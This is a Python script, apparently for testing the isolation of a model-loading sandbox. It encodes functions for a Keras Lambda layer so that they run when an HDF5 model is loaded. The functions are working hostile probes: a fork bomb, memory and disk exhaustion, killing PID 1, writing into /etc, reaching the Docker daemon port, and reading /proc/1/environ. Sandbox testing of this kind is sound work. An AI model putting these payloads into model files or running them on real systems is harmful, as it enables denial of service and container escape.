"""Writes the HDF5 of a model whose Lambda runs code when it is loaded; as Python 3.7 compiles it.

Usage: python3.7 payload.py ATTACK    prints the base64 of the function's code.
"""

import base64
import marshal
import sys


def write_a_file(x):
    done = []
    for path in ("/etc/kmatrix-was-here", "/opt/kmatrix/venv/kmatrix-was-here", "/kmatrix-x"):
        try:
            with open(path, "w") as stream:
                stream.write("here")
            done.append(path)
        except OSError as error:
            print("refused: %s" % error, flush=True)
    raise ValueError("wrote %r" % done)


def open_a_socket(x):
    import os
    import socket

    for host, port in (
        ("1.1.1.1", 80),
        ("172.17.0.1", 2375),
        ("172.17.0.1", int(os.environ.get("PORT", "8000"))),
    ):
        try:
            socket.create_connection((host, port), 5)
        except OSError as error:
            print("refused: %s" % error, flush=True)
        else:
            raise ValueError("connected to %s" % host)
    raise ValueError("no connection: %s" % sorted(os.listdir("/sys/class/net")))


def fork_without_end(x):
    import os

    while True:
        os.fork()


def fork_and_escape(x):
    import os
    import time

    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(600)
        os._exit(0)
    raise ValueError("left one behind")


def eat_memory(x):
    eaten = []
    while True:
        eaten.append(b"x" * (1 << 22))


def ask_for_memory(x):
    return b"x" * (1 << 42)


def sleep_for_ever(x):
    import time

    while True:
        time.sleep(60)


def fill_the_disk(x):
    with open("/kmatrix/fill", "wb") as stream:
        while True:
            stream.write(b"x" * (1 << 20))


def kill_everybody(x):
    import os
    import signal

    os.kill(1, signal.SIGKILL)
    os.kill(os.getppid(), signal.SIGKILL)


def look_at_the_agent(x):
    import os

    for look in (
        lambda: os.open("/proc/1/environ", os.O_RDONLY),
        lambda: os.open("/proc/1/mem", os.O_RDONLY),
        lambda: os.listdir("/proc/1/fd"),
    ):
        try:
            look()
        except OSError as error:
            print("refused: %s" % error, flush=True)
        else:
            raise ValueError("looked into the first process")
    raise ValueError("nothing to see; %s" % sorted(os.environ))


if __name__ == "__main__":
    code = globals()[sys.argv[1]].__code__
    print(base64.b64encode(marshal.dumps(code)).decode())
